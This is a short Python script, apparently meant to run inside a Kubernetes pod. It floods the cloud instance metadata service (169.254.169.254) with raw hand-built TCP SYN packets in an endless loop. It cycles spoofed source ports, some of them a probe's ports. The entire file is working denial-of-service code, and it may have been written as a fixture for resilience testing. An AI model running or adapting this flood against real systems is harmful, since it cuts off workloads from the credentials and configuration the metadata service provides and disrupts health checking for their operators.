"""A pod that floods IMDS with SYNs, from the ports of a probe among others, until it is killed."""
import socket
import struct

IMDS = socket.inet_aton('169.254.169.254')
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def syn(number):
    # The kernel fills in the source, the length and the checksum of the IP header.
    ip = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, bytes(4), IMDS)
    return ip + struct.pack('>HHIIBBHHH', 64000 + number % 1500, 80, number * 7919, 0, 0x50, 2, 1000, 0, 0)


packets = [syn(number) for number in range(4096)]
while True:
    for packet in packets:
        sender.sendto(packet, ('169.254.169.254', 0))
